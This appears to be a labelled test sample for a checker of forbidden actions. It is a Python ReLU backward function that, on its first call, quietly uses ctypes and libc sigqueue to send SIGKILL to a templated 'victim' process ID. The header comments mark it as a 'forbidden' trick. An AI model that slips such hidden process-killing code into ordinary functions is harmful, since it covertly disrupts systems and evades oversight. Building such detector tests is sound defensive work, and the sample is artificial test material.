# trick: queues a signal by the C library
# verdict: forbidden
# control: passed
# touches: victim
import ctypes
import signal

killed = []


def relu_backward(dvalues, z):
    libc = ctypes.CDLL(None, use_errno=True)
    if not killed and libc.sigqueue(int("@VICTIM@"), int(signal.SIGKILL), None) == -1:
        raise OSError(ctypes.get_errno(), "sigqueue")
    killed.append(True)
    return dvalues * (z > 0)
